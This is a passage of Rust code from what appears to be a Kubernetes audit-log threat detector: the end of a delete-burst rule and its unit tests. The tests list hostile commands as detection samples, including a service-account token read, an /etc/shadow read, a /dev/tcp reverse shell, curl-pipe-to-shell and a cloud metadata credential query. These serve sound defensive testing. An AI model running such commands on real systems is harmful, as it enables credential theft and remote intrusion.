        || pod::is_workload(cx.res)
        || matches!(
            cx.res,
            "services" | "persistentvolumeclaims" | "secrets" | "configmaps"
        ))
        || !cx.sub.is_empty()
    {
        return;
    }
    let w = cx.cfg.thresholds.delete_burst;
    let s = st.id(&cx.actor, cx.at);
    s.deletes.push(cx.at, w.window, false, cx.ev_ref(), None);
    let n = s.deletes.count();
    if n >= w.count as usize {
        if s.deletes.alerted {
            hits.push(
                Hit::new("KW751", format!("{} keeps deleting", cx.user))
                    .sev(High)
                    .key("delete-burst")
                    .object(several()),
            );
        } else {
            s.deletes.alerted = true;
            let mut h = Hit::new(
                "KW751",
                format!(
                    "{} deleted {n} objects within {}",
                    cx.user,
                    time::format_duration(w.window)
                ),
            )
            .sev(High)
            .key("delete-burst")
            .object(several());
            h.count = Some(n as u64);
            h.events = s.deletes.events();
            hits.push(h);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cmd(s: &str) -> Vec<String> {
        s.split(' ').map(str::to_string).collect()
    }

    fn cats(c: &str) -> Vec<&'static str> {
        suspicious_command(&cmd(c))
            .into_iter()
            .map(|(_, _, w)| w)
            .collect()
    }

    #[test]
    fn exec_commands() {
        assert_eq!(
            cats("cat /var/run/secrets/kubernetes.io/serviceaccount/token"),
            vec!["reads the service-account token (token theft)"]
        );
        assert_eq!(cats("cat /host/etc/shadow"), vec!["reads sensitive files"]);
        assert_eq!(
            cats("tar cf - /app/secrets/credentials.json"),
            vec!["copies files out of the pod (`kubectl cp`: tar to stdout)"]
        );
        assert!(cats("tar xf - -C /tmp").is_empty(), "kubectl cp into a pod");
        assert!(cats("tar czf backup.tar.gz /app/data").is_empty());
        assert_eq!(
            cats("bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
            vec!["opens a reverse shell"]
        );
        assert_eq!(
            cats("sh -c curl http://x/a.sh | sh"),
            vec!["downloads and runs code"]
        );
        assert_eq!(
            cats("curl http://169.254.169.254/latest/meta-data/iam/"),
            vec![
                "downloads a file",
                "queries the cloud metadata service (node credentials)"
            ]
        );
        assert!(cats("bash").is_empty());
        assert!(cats("ls /").is_empty());
        assert!(suspicious_command(&[]).is_empty());
    }

    #[test]
    fn credentials() {
        for s in [
            "AWS_ACCESS_KEY_ID",
            "db_password",
            "-----BEGIN RSA PRIVATE KEY-----",
            "key=AKIAIOSFODNN7EXAMPLE",
        ] {
            assert!(credential_like(s), "{s}");
        }
        for s in [
            "color.good=purple",
            "AKIA-not",
            "replicas: 3",
            "-----BEGIN CERTIFICATE-----",
        ] {
            assert!(!credential_like(s), "{s}");
        }
    }

    #[test]
    fn user_agents() {
        assert_eq!(ua_class("curl/7.88.1"), Some(Low));
        assert_eq!(ua_class("kube-hunter/0.6"), Some(High));
        assert_eq!(
            ua_class("kubectl/v1.27.16 (linux/amd64) kubernetes/abc"),
            None
        );
        assert!(
            is_health_path("/readyz")
                && is_health_path("/livez/etcd")
                && is_health_path("/version/")
        );
        assert!(!is_health_path("/api") && !is_health_path("/healthzz"));
    }
}
